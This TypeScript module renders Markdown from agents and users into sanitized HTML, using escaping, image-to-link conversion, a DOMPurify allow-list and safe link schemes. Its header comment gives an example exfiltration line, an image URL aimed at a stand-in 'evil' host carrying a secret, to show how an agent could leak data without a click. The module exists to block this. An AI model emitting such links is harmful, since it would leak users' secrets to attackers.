// Markdown from agents (and users) to HTML that is safe to put in the page.
//
// Three layers, each enough on its own for the common attacks:
//  1. marked parses GitHub-flavoured Markdown; its raw-HTML tokens (blocks
//     and inline tags) are rendered as escaped text, never as markup.
//  2. Images are never loaded: an agent that read a secret could otherwise
//     leak it with ![](https://evil/?q=secret) without anyone clicking. An
//     image becomes a link to its address (shown only if http(s)).
//  3. DOMPurify sanitizes the result with a strict allow-list of tags and
//     attributes; links keep only http(s)/mailto addresses and always open
//     in a new tab with rel="noopener noreferrer nofollow".
// Code blocks are highlighted by highlight.js (core plus the languages
// below, not all of them, to keep the bundle small).
import DOMPurify from 'dompurify';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import c from 'highlight.js/lib/languages/c';
import cpp from 'highlight.js/lib/languages/cpp';
import diff from 'highlight.js/lib/languages/diff';
import dockerfile from 'highlight.js/lib/languages/dockerfile';
import go from 'highlight.js/lib/languages/go';
import ini from 'highlight.js/lib/languages/ini';
import java from 'highlight.js/lib/languages/java';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import markdown from 'highlight.js/lib/languages/markdown';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import shell from 'highlight.js/lib/languages/shell';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';
import { Marked, type Tokens } from 'marked';

const languages = { bash, c, cpp, diff, dockerfile, go, ini, java, javascript, json, markdown, python, rust, shell, sql, typescript, xml, yaml };
for (const [name, def] of Object.entries(languages)) hljs.registerLanguage(name, def);
// Aliases the registered grammars do not declare themselves.
hljs.registerAliases(['golang'], { languageName: 'go' });
hljs.registerAliases(['sh-session', 'console'], { languageName: 'shell' });
hljs.registerAliases(['patch'], { languageName: 'diff' });
hljs.registerAliases(['toml'], { languageName: 'ini' });

/** The schemes a link may use; anything else (javascript:, data:, relative paths into the shell) loses its href. */
const SAFE_URL = /^(?:https?:|mailto:)/i;

const ALLOWED_TAGS = [
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'span', 'blockquote',
  'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a',
];
const ALLOWED_ATTR = ['href', 'title', 'class', 'align', 'start'];
// Attributes that are not addresses: DOMPurify would otherwise test their
// values against SAFE_URL too, and drop them.
const URI_SAFE_ATTR = ['align', 'start'];

function escapeHTML(s: string): string {
  return s.replace(/[&<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
}

// Only class names this module writes survive: hljs token classes and ours.
const SAFE_CLASS = /^(?:code|hljs(?:-[\w-]+)?|language-[\w+#.-]+|md-(?:image|raw|task|task--done)|\w+_)$/;

const purify = DOMPurify();
purify.addHook('uponSanitizeAttribute', (_node, data) => {
  if (data.attrName === 'class') {
    data.attrValue = data.attrValue
      .split(/\s+/)
      .filter((cls) => SAFE_CLASS.test(cls))
      .join(' ');
  }
});
purify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName !== 'A') return;
  const href = node.getAttribute('href');
  if (href === null || !SAFE_URL.test(href.trim())) {
    node.removeAttribute('href');
    return;
  }
  node.setAttribute('target', '_blank');
  node.setAttribute('rel', 'noopener noreferrer nofollow');
});

// Alias (golang, sh, ts, …) to the name registered above, for the class.
const canonical = (lang: string) => Object.keys(languages).find((name) => hljs.getLanguage(name) === hljs.getLanguage(lang));

function highlight(text: string, fence: string): { html: string; lang: string } {
  const lang = fence && hljs.getLanguage(fence) ? canonical(fence) : undefined;
  if (lang) {
    try {
      return { html: hljs.highlight(text, { language: lang, ignoreIllegals: true }).value, lang };
    } catch {
      // fall through to plain, escaped text
    }
  }
  return { html: escapeHTML(text), lang: '' };
}

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    // Raw HTML from the source is shown as the text it is.
    html(token: Tokens.HTML | Tokens.Tag) {
      const text = escapeHTML(token.text);
      return 'block' in token && token.block ? `<p class="md-raw">${text.replace(/\n+$/, '')}</p>\n` : text;
    },
    code({ text, lang }: Tokens.Code) {
      const name = (lang ?? '').trim().split(/\s+/)[0]!.toLowerCase();
      const h = highlight(text.replace(/\n$/, ''), name);
      const cls = h.lang ? ` class="hljs language-${escapeHTML(h.lang)}"` : ' class="hljs"';
      return `<pre class="code"><code${cls}>${h.html}</code></pre>\n`;
    },
    image({ href, text }: Tokens.Image) {
      const label = escapeHTML(text || href);
      if (!SAFE_URL.test(href) || href.toLowerCase().startsWith('mailto:')) return `<span class="md-image">${label}</span>`;
      return `<a class="md-image" href="${escapeHTML(href)}">${label}</a>`;
    },
    checkbox({ checked }: Tokens.Checkbox) {
      return checked ? '<span class="md-task md-task--done">☑</span> ' : '<span class="md-task">☐</span> ';
    },
  },
});

const cache = new Map<string, string>();
/** How many rendered texts are kept; a session switch re-renders from here, not from scratch. */
const CACHE_SIZE = 500;

/** sanitize cleans HTML with the shell's allow-list (exported so tests can check the sanitizer on its own). */
export function sanitize(html: string): string {
  return purify.sanitize(html, { ALLOWED_TAGS, ALLOWED_ATTR, ALLOWED_URI_REGEXP: SAFE_URL, ADD_URI_SAFE_ATTR: URI_SAFE_ATTR, ALLOW_DATA_ATTR: false });
}

/**
 * renderMarkdown turns Markdown into sanitized HTML. Partial input while a
 * message streams (an unclosed code fence, half a table) renders as far as
 * it goes; a parser failure falls back to the escaped text.
 */
export function renderMarkdown(text: string): string {
  const hit = cache.get(text);
  if (hit !== undefined) {
    cache.delete(text);
    cache.set(text, hit); // most recently used last
    return hit;
  }
  let html: string;
  try {
    // Without a DOM DOMPurify cannot clean anything: fail closed.
    if (!purify.isSupported) throw new Error('no DOM to sanitize with');
    html = sanitize(marked.parse(text, { async: false }));
  } catch {
    html = `<p>${escapeHTML(text)}</p>`;
  }
  cache.set(text, html);
  if (cache.size > CACHE_SIZE) cache.delete(cache.keys().next().value!);
  return html;
}
